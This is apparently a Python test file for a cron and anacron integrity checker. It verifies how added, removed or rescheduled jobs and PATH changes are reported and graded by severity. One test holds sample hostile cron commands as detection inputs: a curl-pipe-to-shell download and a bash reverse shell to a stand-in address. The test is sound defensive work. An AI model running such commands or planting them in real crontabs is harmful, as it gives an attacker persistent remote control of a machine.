"""crontabs: jobs by command, and variables."""

from hypothesis import given
from hypothesis import strategies as st

from analysis.integrity.semantic.cron import anacron, parse, system, user
from contracts.event import Severity


def test_a_new_job_of_the_system_is_told_with_user_and_time() -> None:
    (one,) = system("", "*/5 * * * * root /usr/local/bin/check --all\n")
    assert one.text == "cron now runs at */5 * * * * as root: /usr/local/bin/check --all"
    assert one.attack == ("T1053.003",) and one.severity is Severity.MEDIUM


def test_a_job_that_fetches_or_runs_from_a_temporary_folder_is_grave() -> None:
    for command in ("curl http://192.0.2.1/x | sh", "/tmp/.x", "bash -c 'bash -i >& /dev/tcp/192.0.2.1/1 0>&1'"):
        (one,) = user("", f"@reboot {command}\n")
        assert one.severity is Severity.HIGH, command


def test_another_time_is_one_change_and_comments_none() -> None:
    (one,) = user("0 1 * * * a\n", "# note\n0 2 * * * a\n")
    assert one.text == "cron runs at 0 1 * * * -> at 0 2 * * *: a"
    assert user("0 1 * * * a\n", "#x\n\n0 1 * * * a\n") == []


def test_a_path_that_changes_is_told() -> None:
    (one,) = system("PATH=/usr/bin\n", "PATH=/tmp:/usr/bin\n")
    assert one.text == "cron's PATH /usr/bin -> /tmp:/usr/bin" and one.severity is Severity.MEDIUM


def test_a_job_that_went() -> None:
    assert user("@daily x\n", "")[0].text == "cron no longer runs at @daily: x"


def test_anacron_is_told_by_its_days() -> None:
    (one,) = anacron("SHELL=/bin/sh\n", "SHELL=/bin/sh\n1 5 evil /tmp/.x\n@monthly 45 x /usr/bin/y\n")[:1]
    assert one.text == "cron now runs at @every-1-days: /tmp/.x" and one.severity is Severity.HIGH
    assert anacron("", "@monthly 45 x /usr/bin/y z\n")[0].text == "cron now runs at @monthly: /usr/bin/y z"


@given(st.text(max_size=200), st.text(max_size=200), st.booleans())
def test_any_text_is_read(old: str, new: str, with_user: bool) -> None:
    parse(old, with_user)
    assert (system if with_user else user)(old, old) == []
